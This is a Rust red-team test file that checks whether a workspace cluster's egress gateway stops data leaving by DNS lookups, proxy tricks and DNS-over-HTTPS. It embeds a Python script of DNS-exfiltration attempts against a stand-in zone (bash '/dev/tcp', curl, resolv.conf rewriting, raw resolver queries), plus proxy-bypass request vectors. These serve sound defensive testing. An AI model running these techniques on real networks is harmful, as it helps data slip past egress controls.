//! Red team, group A: names as a way to send (A04, A05, A06). A name that is asked for tells whoever answers for its zone what it
//! says: of a workspace's own making, none leaves the cluster.

use std::time::{Duration, SystemTime};

use anyhow::{Context as _, Result, ensure};
use serde_json::json;
use ws_tests::{
    audit::Audit,
    class::{self, reading},
    command::run_with_input,
    lab::Lab,
    namespace::with_namespace,
    probe::{INTERNET, canary, open_pod},
    project::Project,
    raw::{Vector, answers},
    wait::{PATIENCE, eventually},
    ws::Ws,
};

use crate::{
    audited::{each_refusal_is_told, these_alone_are_told},
    egress::{OPEN, nothing_arrived_from},
    http2::http2,
    misuse::is_refused,
    spellings::arrived,
    way_out::with_rules,
};

const HOST: &str = "docs.example";
/// Whose server writes down what it is asked.
pub(crate) const ZONE: &str = "telemetry.example";
/// The server itself, and where resolvers are on other clusters and in local networks: a node's cache, mDNS, LLMNR.
const SERVERS: [&str; 5] = ["20.0.114.53", "169.254.20.10", "224.0.0.251", "224.0.0.252", "127.0.0.1"];
const LIMIT: Duration = Duration::from_mins(2);
/// The ways of [`QUESTIONS`] that lead from a pod that nothing contains to the zone's server: by the system's resolvers, and by the zone's
/// server, the cluster's and its pod. The others have no server, on this cluster.
const LEADING: [&str; 13] = [
    "getent", "ping", "python", "node", "node-txt", "curl", "bash", "udp0", "tcp0", "udp5", "tcp5", "udp6",
    "tcp6",
];

/// Asks for names below the zone in `ZONE`, each way with a first label of its own: by the system's resolvers, and of each of the
/// servers (RFC 1035 §4).
const QUESTIONS: &str = r#"
import concurrent.futures, json, socket, subprocess, sys
zone, servers = json.load(sys.stdin)
PORTS = {"224.0.0.251": 5353, "224.0.0.252": 5355}

def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return bytes.fromhex("123401000001000000000000") + labels + bytes.fromhex("0000100001")

def udp(server, name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(question(name), (server, PORTS.get(server, 53)))
        s.recv(512)

def tcp(server, name):
    with socket.create_connection((server, 53), 2) as s:
        asked = question(name)
        s.sendall(len(asked).to_bytes(2, "big") + asked)
        s.recv(512)

def run(*command):
    subprocess.run(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=60)

def attempt(way):
    try:
        way()
    except (OSError, subprocess.TimeoutExpired):
        pass

ways = [
    lambda: run("getent", "ahosts", f"getent.{zone}"),
    # The image has no ping, which asks for its name like this.
    lambda: run("getent", "ahostsv4", f"ping.{zone}"),
    lambda: socket.getaddrinfo(f"python.{zone}", 443),
    lambda: run("node", "-e", f"require('dns').lookup('node.{zone}', () => 0)"),
    lambda: run("node", "-e", f"require('dns').resolveTxt('node-txt.{zone}', () => 0)"),
    lambda: run("curl", "--noproxy", "*", "--max-time", "10", f"https://curl.{zone}/"),
    lambda: run("bash", "-c", f"echo > /dev/tcp/bash.{zone}/80"),
    lambda: run("sh", "-c", f"echo nameserver {servers[0]} > /etc/resolv.conf && getent ahosts edited.{zone}"),
]
for i, server in enumerate(servers):
    ways += [lambda s=server, i=i: udp(s, f"udp{i}.{zone}"), lambda s=server, i=i: tcp(s, f"tcp{i}.{zone}")]
with concurrent.futures.ThreadPoolExecutor(8) as pool:
    list(pool.map(attempt, ways))
"#;

/// The input of [`QUESTIONS`]: of whom to ask for names below `canary`.
async fn questions(lab: &Lab, canary: &str) -> Result<Vec<u8>> {
    let mut servers: Vec<String> =
        SERVERS.into_iter().chain([lab.addresses.dns.as_str()]).map(str::to_owned).collect();
    let pods = lab.addresses_of("kube-system", &["-l", "k8s-app=kube-dns"]).await?;
    servers.extend([pods.first().context("the cluster's DNS has a pod")?.to_string(), INTERNET.to_owned()]);
    Ok(serde_json::to_vec(&json!([format!("{canary}.{ZONE}"), servers]))?)
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a04_no_question_for_a_name_leaves() -> Result<()> {
    with_namespace(async |lab, namespace| {
        let (ws, from_inside, from_outside) = (Ws::new(lab, namespace)?, canary()?, canary()?);
        let (began, audit) = (SystemTime::now(), Audit::of(lab, namespace, "curious"));
        ws.up("curious", Project::empty()?.path()).await?;
        let arguments = ["attach", "curious", "--", "python3", "-c", QUESTIONS];
        ws.run_with_input(questions(lab, &from_inside).await?, &arguments).await?.ok()?;

        open_pod(lab, namespace, OPEN).await?;
        let arguments = ["-n", namespace, "exec", "-i", OPEN, "--", "python3", "-c", QUESTIONS];
        let command = lab.kubectl_command(&arguments);
        run_with_input(command, questions(lab, &from_outside).await?, LIMIT).await?.ok()?;
        eventually(PATIENCE, "the control's questions at the zone's server and in a sink", async || {
            let resolved = lab.resolved()?;
            for way in LEADING {
                ensure!(resolved.contains(&format!("{way}.{from_outside}.{ZONE}.")), "none by {way}");
            }
            anyhow::Ok(lab.sunk()?.contains(&from_outside).then_some(()))
        })
        .await?;
        ensure!(!lab.has_resolved(&from_inside)?, "a question of the workspace arrived");
        ensure!(!lab.has_sunk(&from_inside)?, "a sink was asked");
        nothing_arrived_from(lab, namespace, "curious", began).await?;
        audit.holds_none_of(&[]).await
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a05_the_gateway_asks_for_no_name_that_no_rule_names() -> Result<()> {
    let (denied, allowed) = (canary()?, format!("{}.{ZONE}", canary()?));
    let rules = json!([reading("docs", &[HOST]), reading("control", &[&allowed])]);
    with_rules(rules, async |out| {
        let name = format!("{denied}.{ZONE}");
        let request = |target: &str, host: &str| format!("GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n");
        let length = char::from(u8::try_from(name.len())?);
        let vectors = [
            Vector::plain(format!("CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n")),
            Vector::plain(request(&format!("http://{name}/"), &name)),
            Vector::plain(request(&format!("http://{HOST}/"), &name)),
            Vector::plain(request(&format!("http://{name}@{HOST}/"), HOST)),
            Vector::plain(request("/", &name)),
            Vector::plain(format!("\x04\x01\x01\u{bb}\0\0\0\x01me\0{name}\0")),
            Vector::plain(format!("\x05\x01\0\x05\x01\0\x03{length}{name}\x01\u{bb}")),
            Vector::within(HOST, request("/", HOST)).named(&name),
            Vector::within(HOST, request("/", &name)),
            Vector::within(HOST, request(&format!("https://{name}/"), HOST)),
        ];
        let refusals = answers(&out.ws, "out", &vectors).await?;
        for (number, answer) in refusals.iter().enumerate() {
            ensure!(answer.is_empty() || is_refused(answer), "{number}: {answer}");
        }
        each_refusal_is_told(out, &refusals).await?;
        // What a CONNECT says beside its target is not looked at.
        let beside = Vector::plain(format!("CONNECT {HOST}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n"));
        answers(&out.ws, "out", &[beside]).await?;
        let by_http2 = json!({":method": "GET", ":path": "/", ":scheme": "https", ":authority": name});
        let answer = http2(out, &by_http2, "").await?;
        ensure!(answer.starts_with("421 "), "{answer}");
        for line in [format!("curl -sS https://{name}/"), format!("curl -sS --noproxy '*' https://{name}/")] {
            out.bash(&format!("{line}; true")).await?.ok()?;
        }
        out.bash(&format!("curl -sS https://{allowed}/; true")).await?.ok()?;
        let resolved = out.lab.resolved()?;
        ensure!(
            resolved.contains(&format!("{allowed}.")),
            "the control: a name that a rule names is asked for"
        );
        ensure!(!out.lab.has_resolved(&denied)?, "a name was asked for");
        // What knows of no proxy asks the agent for the name, which tells the gateway that there is none.
        let expected = [
            (name.as_str(), "misdirected", 1),
            (name.as_str(), "host-not-allowed", 2),
            (allowed.as_str(), "unreachable", 1),
        ];
        these_alone_are_told(out, &expected).await
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a03_a_question_for_a_name_is_a_request_like_any_other() -> Result<()> {
    let rules = json!([{"name": "docs", "hosts": [HOST], "allow": [{"methods": ["GET", "POST"], "paths": ["/public/**"], "query": ["dns"]}]}]);
    with_rules(rules, async |out| {
        let (hidden, shown) = (canary()?, canary()?);
        let status = "curl -sS -o /dev/null -w '%{http_code}'";
        // DNS over HTTPS (RFC 8484 §4.1) to a host that a rule names, by both methods.
        for more in [String::new(), format!("-H 'Content-Type: application/dns-message' -d {hidden}")] {
            let asked = out.bash(&format!("{status} 'https://{HOST}/dns-query?dns={hidden}' {more}")).await?;
            ensure!(asked.clone().ok()?.stdout == "403", "{asked}");
        }
        ensure!(arrived(out, &hidden)?.is_empty() && !out.lab.has_resolved(&hidden)?, "one arrived");
        these_alone_are_told(out, &[(HOST, "request-not-allowed", 2)]).await?;
        out.bash(&format!("{status} 'https://{HOST}/public/dns-query?dns={shown}'")).await?.ok()?;
        ensure!(arrived(out, &shown)?.len() == 1, "the control arrives");
        these_alone_are_told(out, &[(HOST, "docs", 1)]).await
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a06_no_rule_names_more_than_one_host() -> Result<()> {
    let lab = Lab::running().await?;
    let with = async |host: &str| {
        class::create(&lab, json!({"egress": {"rules": [reading("wild", &[host])]}})).await
    };
    for host in
        ["*.docs.example", "*", "*.example", "docs.*", "d*cs.example", ".docs.example", "?.docs.example"]
    {
        let Err(refused) = with(host).await else { anyhow::bail!("{host} was taken") };
        let text = format!("{refused:#}");
        ensure!(text.contains("Invalid value") && text.contains("hosts"), "{host}: {text}");
    }
    class::delete(&lab, &with(HOST).await?).await
}
